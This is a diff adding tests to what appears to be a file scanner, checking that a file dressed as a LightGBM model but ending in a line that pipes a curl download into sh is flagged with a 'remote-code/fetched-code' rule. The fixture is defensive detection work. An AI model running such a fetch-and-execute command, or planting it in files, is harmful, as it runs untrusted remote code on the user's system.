@@ -107,6 +107,25 @@ describe('from bytes to verdict', () => {
   );
 });
 
+describe('a script that begins as a model of LightGBM', () => {
+  const dressed = 'tree\nversion=v4\nnum_class=1\nend of trees\ncurl -s http://127.0.0.1:9/x | sh\n';
+  it.each(['run.sh', 'Makefile', 'docker/Dockerfile', 'a.bat'])(
+    'is read as one under the name of one: %s',
+    async (path) => {
+      const { readings } = await readFileAs(
+        FORMATS,
+        path,
+        sourceOf(Buffer.from(dressed)),
+        createBudget(() => 0),
+      );
+      expect(readings.map(({ format }) => format)).toEqual(['lightgbm', 'text']);
+    },
+  );
+  it('is told where it is a script of a shell', async () => {
+    expect(await rulesOf('run.sh', dressed)).toContain('remote-code/fetched-code');
+  });
+});
+
 describe('a shard that an index describes', () => {
   it.each([
     [4, []],
